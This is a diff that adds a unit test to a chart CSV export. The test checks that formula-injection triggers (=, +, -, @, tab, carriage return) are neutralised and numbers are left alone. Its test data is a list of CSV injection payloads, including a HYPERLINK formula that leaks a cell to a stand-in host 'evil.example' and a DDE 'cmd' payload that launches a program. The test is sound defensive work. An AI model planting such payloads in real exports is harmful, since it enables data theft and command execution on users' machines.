@@ -27,6 +27,16 @@ describe('CSV download of a chart', () => {
     expect(csv.split('\r\n')[1]).toBe('"\'=HYPERLINK(""x"")"');
   });
 
+  it('neutralises every formula trigger of the attack review (= + - @, leading tab, leading CR) and leaves numbers alone', () => {
+    const payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '@SUM(1)', "+SUM(1+1)*cmd|' /C calc'!A0", '=1+1 cred', '-2+3', '\t=1+2', '\r=1+2'];
+    const csv = toCsv({ columns: [{ key: 'a', label: 'Name' }, { key: 'b', label: 'Gap' }], rows: payloads.map((p) => [p, -12.5]) });
+    const lines = csv.split('\r\n').slice(1, -1).join('\n');
+    for (const p of payloads) expect(csv).toContain(`'${p.replace(/"/g, '""')}`);
+    // no cell (after its opening quote, if any) starts with a trigger; the numbers are plain numbers
+    expect(csv.match(/(^|,|\n)"?[=+@\t]/g)).toBeNull();
+    expect(lines.split(',-12.5').length - 1).toBe(payloads.length);
+  });
+
   it('names the file after the chart title', () => {
     expect(csvFileName('Recognition rate by industry (NAICS)')).toBe('recognition-rate-by-industry-naics.csv');
   });
